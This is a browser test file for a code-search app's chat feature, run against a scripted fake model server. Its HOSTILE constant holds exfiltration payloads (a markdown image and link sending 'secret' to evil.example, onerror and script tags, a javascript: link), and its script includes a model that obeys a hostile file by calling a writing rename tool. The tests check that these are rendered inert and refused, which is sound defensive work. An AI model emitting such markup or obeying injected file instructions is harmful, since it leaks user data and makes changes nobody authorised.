// Chat: off until a model is chosen, its host admitted by the policy, data shown before they are sent, steps and checked places, hostile answers,
// limits, stop, and conversations that this browser keeps. The model is a scripted server.
import assert from "node:assert/strict";
import { test } from "node:test";
import { modelServer, textsOf } from "../../pkg/test/chat-server.mjs";
import { allDone, browse, indexFolder, problemsOf, serve } from "./harness.mjs";
import { accessible, shot } from "./looks.mjs";

const HOSTILE = [
  "A picture ![x](https://evil.example/p.png?code=secret), a [link](https://evil.example/?q=secret), ",
  '<img src=x onerror="window.stolen=1"><script>window.stolen=1</script> and <a href="javascript:1">raw</a>.',
];

const script = [
  // the first question
  ["Let me look.", { tool: "search_codebase", input: { query: "buildRouting" } }],
  [{ tool: "read_file", input: { path: "lib/route.js", start_line: 1, end_line: 60 } }],
  [
    "Routes are built in `buildRouting` [lib/route.js:40-60].\n\n",
    "| part | place |\n|---|---|\n| hooks | [lib/hooks.js:1] |\n\nAlso [lib/nowhere.js:7].",
  ],
  // the second: throttled, then cut off, then a model that obeys a hostile file
  { status: 429, headers: { "retry-after": "1" } },
  { deltas: ["Half of an answer that nobody"], breaksOff: "cut" },
  [{ tool: "rename", input: { symbol: "x", new_name: "y", apply: true } }],
  HOSTILE,
  // the third never ends
  { deltas: ["So far [package.json:1]"], holds: true },
  ["Again."],
];

async function openChat(page) {
  await page.keyboard.press("Control+k");
  const palette = page.locator("dialog.palette");
  await palette.getByRole("combobox").fill(">Chat");
  await palette.getByRole("option", { name: "Chat" }).first().waitFor();
  await page.keyboard.press("Enter");
  await page.getByRole("heading", { level: 1, name: "Chat" }).waitFor();
}

const question = (page) => page.getByRole("textbox", { name: "Question" });
const turn = (page, text) => page.getByRole("article", { name: text, exact: true });

async function ask(page, text) {
  await question(page).fill(text);
  await page.keyboard.press("Enter");
}

for (const colorScheme of ["light", "dark"]) {
  test(`chat, in ${colorScheme} colours`, async (t) => {
    const site = await serve();
    t.after(site.stop);
    const model = await modelServer(script, { cors: true });
    t.after(model.stop);
    const other = await modelServer([["no"]], { cors: true });
    t.after(other.stop);
    const page = await browse(t, { colorScheme });
    await page.goto(site.url);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await indexFolder(page, "fastify");
    await allDone(page);

    await t.test("it is off, and nothing of it was fetched before it is opened", async () => {
      assert.deepEqual(
        site.asked.filter((path) => /\/(Chat|chat|sdk)-/.test(path)),
        [],
      );
      await openChat(page);
      await page.getByRole("heading", { name: "Choose a model" }).waitFor();
      assert.equal(await question(page).count(), 0);
      await shot(page, `chat-off-${colorScheme}`);
      await accessible(page, "chat without a model");
      assert.deepEqual(
        site.asked.filter((path) => /\/sdk-/.test(path)),
        [],
      );
    });

    await t.test("the host is admitted first, and no other", async () => {
      await page.getByRole("combobox", { name: "Provider" }).selectOption("server");
      await page.getByRole("textbox", { name: "Address" }).fill(model.url);
      assert.equal(await page.getByRole("textbox", { name: "Model" }).count(), 0, "no key before the host is allowed");
      await shot(page, `chat-allow-${colorScheme}`);
      await Promise.all([
        page.waitForEvent("framenavigated"),
        page.getByRole("button", { name: /^Allow 127/ }).click(),
      ]);
      await page.getByRole("textbox", { name: "Model" }).waitFor();
      const sent = (url) =>
        page.evaluate(
          (url) =>
            fetch(url, { method: "POST", body: "{}" }).then(
              () => "sent",
              () => "refused",
            ),
          url,
        );
      assert.equal(await sent(`${other.url}/x`), "refused");
      assert.deepEqual(other.requests, []);
      page.problems.length = 0;
      await page.getByRole("textbox", { name: "Model" }).fill("m1");
      await page.getByLabel("Key, if it wants one").fill("secret-key");
      await accessible(page, "chat with a provider");
      await page.getByRole("button", { name: "Use it" }).click();
      await question(page).waitFor();
      const kept = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }));
      assert.ok(!kept.includes("secret-key"), "the key stays in memory");
    });

    await t.test("what is sent is shown first; then steps, and places that were checked", async () => {
      await ask(page, "Where are routes built?");
      const review = page.getByRole("region", { name: "What is sent" });
      await review.getByText("Your question").waitFor();
      assert.equal(model.requests.length, 0, "nothing was sent yet");
      await shot(page, `chat-review-${colorScheme}`);
      await accessible(page, "what is sent");
      await review.getByRole("button", { name: "Send", exact: true }).click();
      const answer = turn(page, "Where are routes built?");
      await answer.getByText("3 tokens", { exact: false }).or(answer.getByText("300 tokens sent")).first().waitFor();
      assert.deepEqual(
        await answer.locator(".chat-cite").evaluateAll((all) => all.map((one) => [one.textContent, one.dataset.state])),
        [
          ["lib/route.js:40-60", "read"],
          ["lib/hooks.js:1 (not read)", "known"],
          ["lib/nowhere.js:7 (not in the index)", "unknown"],
        ],
      );
      assert.equal(await answer.locator(".chat-answer a").count(), 2, "what is not in the index is no link");
      await answer.getByText("2 steps").click();
      await answer.getByText("search_codebase").click();
      await shot(page, `chat-${colorScheme}`);
      await accessible(page, "an answer");
      assert.equal(model.requests[0].headers.authorization, "Bearer secret-key");
      assert.match(textsOf(model.requests[2], "tool")[1], /lib\/route\.js:1-60/);
      // The shield tells of it by itself.
      await page.locator(".footer-privacy[data-state=sent]", { hasText: new URL(model.url).host }).waitFor();
    });

    await t.test("a place opens its code, and the way back leads to the conversation", async () => {
      await turn(page, "Where are routes built?").getByRole("link", { name: "lib/route.js:40-60" }).click();
      await page.locator(".cm-chosen").first().waitFor();
      assert.match(page.url(), /lib\/route\.js\?.*L=40-60/);
      await page.goBack();
      await turn(page, "Where are routes built?").waitFor();
    });

    await t.test(
      "a limit is waited for, half an answer is dropped, a writing tool refused, markup does nothing",
      async () => {
        await ask(page, "And then?");
        const answer = turn(page, "And then?");
        await answer
          .getByText(/Waiting \d+ seconds? for server:m1/)
          .first()
          .waitFor();
        await answer.getByText("A picture").waitFor();
        await answer.getByRole("button", { name: "Copy" }).waitFor();
        assert.equal(await answer.getByText("Half of an answer").count(), 0);
        assert.equal(await answer.locator(".chat-answer :is(img, script, a)").count(), 0);
        assert.match(await answer.locator(".chat-answer").textContent(), /https:\/\/evil\.example\/p\.png/);
        assert.equal(await page.evaluate(() => window.stolen), undefined);
        await answer.getByText("1 step").click();
        await answer.getByText("refused: no tool that only reads").waitFor();
        await shot(page, `chat-hostile-${colorScheme}`);
      },
    );

    await t.test("stop keeps what was there", async () => {
      await ask(page, "On and on?");
      await turn(page, "On and on?").getByText("So far").waitFor();
      await page.getByRole("button", { name: "Stop" }).click();
      await turn(page, "On and on?").getByText("This answer is not whole: stopped.").waitFor();
      for (let n = 0; model.open.size > 0 && n < 100; n++) await page.waitForTimeout(50);
      assert.equal(model.open.size, 0, "the request ended, too");
    });

    await t.test("the conversation is kept in this browser, the key is not", async () => {
      await page.reload();
      const kept = page.getByRole("region", { name: "Earlier conversations" });
      await kept.getByText("3 questions").waitFor();
      await kept.getByRole("button", { name: /^Where are routes built/ }).click();
      await turn(page, "On and on?").waitFor();
      assert.equal(await turn(page, "Where are routes built?").locator("[data-state=unknown].chat-cite").count(), 1);
      await ask(page, "Sure?");
      await page.getByRole("button", { name: "Send", exact: true }).click();
      await turn(page, "Sure?").getByText("Again.").first().waitFor();
      assert.equal(model.requests.at(-1).headers.authorization, undefined);
      assert.deepEqual(textsOf(model.requests.at(-1), "user").at(-1), "Sure?");
      await kept.getByRole("button", { name: /^Delete Where/ }).click();
      await kept.getByText("None yet.").waitFor();
    });

    await t.test("on a phone", async () => {
      await page.setViewportSize({ width: 390, height: 780 });
      await question(page).waitFor();
      await shot(page, `chat-phone-${colorScheme}`);
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), "nothing sticks out");
      await accessible(page, "chat on a phone");
    });
    // The browser notes answers that are no success by itself.
    const problems = problemsOf(page).filter(
      (text) => !/status of (429|404)|ERR_INCOMPLETE_CHUNKED_ENCODING/.test(text),
    );
    assert.deepEqual(problems, []);
  });
}
